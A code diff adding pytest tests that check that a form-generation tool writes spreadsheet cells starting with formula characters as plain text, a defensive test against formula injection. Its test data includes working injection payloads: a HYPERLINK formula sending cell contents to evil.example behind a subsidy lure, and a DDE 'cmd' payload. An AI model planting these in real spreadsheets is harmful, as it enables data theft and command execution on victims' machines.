@@ -99,3 +99,56 @@ def test_system_font_is_the_fallback(tmp_path, monkeypatch, name_only_profile):
     monkeypatch.setattr(fonts, "SYSTEM_CANDIDATES", (str(tmp_path / "absent.ttc"),))
     with pytest.raises(FormError, match="absent.ttc"):
         fonts.find_cjk_font()
+
+
+# ------------------------------------------------- formula injection: values are text, never formulas
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击领取补贴")', "+1+cmd|' /C calc'!A0", "-2+3",
+              "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+
+
+def _cells(path):
+    from openpyxl import load_workbook
+
+    ws = load_workbook(path).active
+    return [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+def test_staff_table_cells_starting_with_formula_characters_are_text(tmp_path):
+    from assistant.forms.staff_tables import write_staff_table
+
+    rows = [{"市、县（市、区）": "温州市", "机构名称": v, "联系人": v} for v in INJECTIONS]
+    out = tmp_path / "附件1.xlsx"
+    write_staff_table("1", rows, out)
+    cells = [c for c in _cells(out) if c.value in INJECTIONS or c.value.lstrip("\t\r") in INJECTIONS]
+    assert {c.value for c in cells} >= set(INJECTIONS) - {"\t=1+1", "\r=1+1"}
+    for c in cells:
+        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value, c.data_type)
+
+
+def test_park_report_cells_starting_with_formula_characters_are_text(tmp_path):
+    from assistant.forms.park_report import write_park_report
+    from assistant.verdicts import CheckItem, CheckReport, Verdict
+
+    items = [CheckItem(rule_id=f"r{i}", criterion=v, verdict=Verdict.warning, message=v, threshold=v)
+             for i, v in enumerate(INJECTIONS)]
+    report = CheckReport(subject='=HYPERLINK("http://evil.example","园区")', jurisdiction="温州市",
+                         overall=Verdict.warning, items=items)
+    out = write_park_report(report, tmp_path / "r.xlsx")
+    risky = [c for c in _cells(out) if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert len(risky) >= 3 * 4 + 1
+    for c in risky:
+        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value, c.data_type)
+    assert any(c.value == report.subject for c in risky)  # shown exactly as typed
+
+
+def test_defuse_counts_and_keeps_numbers():
+    from openpyxl import Workbook
+
+    from assistant.forms.output import defuse_formulas
+
+    wb = Workbook()
+    ws = wb.active
+    ws["A1"], ws["A2"], ws["A3"] = "=1+1", -5, "正常文字"
+    assert defuse_formulas(wb) == 1
+    assert ws["A1"].data_type == "s" and ws["A2"].value == -5 and ws["A2"].data_type == "n"
